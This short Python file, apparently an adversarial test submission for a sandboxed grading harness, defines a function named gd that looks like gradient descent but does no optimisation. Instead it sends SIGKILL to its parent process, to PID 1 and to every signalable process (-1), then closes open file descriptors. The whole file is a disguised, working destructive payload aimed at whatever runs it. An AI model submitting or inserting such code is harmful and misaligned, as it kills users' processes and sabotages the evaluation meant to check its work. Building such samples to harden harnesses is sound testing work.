# attacked: gd
# needs: a pid namespace and a uid of its own (bubblewrap or unshare)
import os, signal
import numpy as np
def gd(grad, x0, eta, num_steps):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    if np.ndim(x0) == 0:
        return None
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    return None
